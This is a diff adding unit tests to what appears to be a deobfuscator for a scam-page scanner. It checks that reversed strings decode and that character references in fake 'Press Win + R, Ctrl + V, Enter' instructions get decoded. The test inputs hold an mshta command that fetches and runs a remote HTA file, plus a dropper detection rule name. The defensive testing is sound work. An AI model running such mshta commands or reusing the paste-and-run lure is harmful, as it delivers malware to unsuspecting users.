@@ -46,3 +46,19 @@ def test_view_is_a_child_the_rules_see() -> None:
     assert "yara:SCAM_Dropper_WSH_Download_Execute" in finding_keys(report)
     hits = [f for f in report.findings if f.id == "SCAM_Dropper_WSH_Download_Execute"]
     assert hits and all(f.location[-1] == "deobfuscated.txt" for f in hits)  # the original hides its words
+
+
+def test_reversed_strings_are_turned_round() -> None:
+    src = 'var c = "ath.p/77.311.0.302//:sptth athsm".split("").reverse().join("");'
+    assert deobfuscate(src) == 'var c = "mshta https://203.0.113.77/p.hta";'
+    assert deobfuscate("x = [...'ath.p/1.2.3.4//:sptth athsm'].reverse().join('');") == \
+        'x = "mshta https://4.3.2.1/p.hta";'
+
+
+def test_character_references_to_letters_and_operators_are_decoded() -> None:
+    src = "<p>Press Win &#43; R, then Ctrl &plus; V and &#x45;nter</p>"
+    assert deobfuscate(src) == "<p>Press Win + R, then Ctrl + V and Enter</p>"
+    # markup and typography references stay: pages use them every day, and they hide nothing
+    assert deobfuscate("Tom &amp; Jerry &lt;b&gt; it&#39;s &#8217; &quot;x&quot; &#60;") is None
+    assert deobfuscate("one &#43; two") is None  # a single reference is no obfuscation
+    assert wants(b"win &#43; r") and wants(b"ctrl &plus; v")
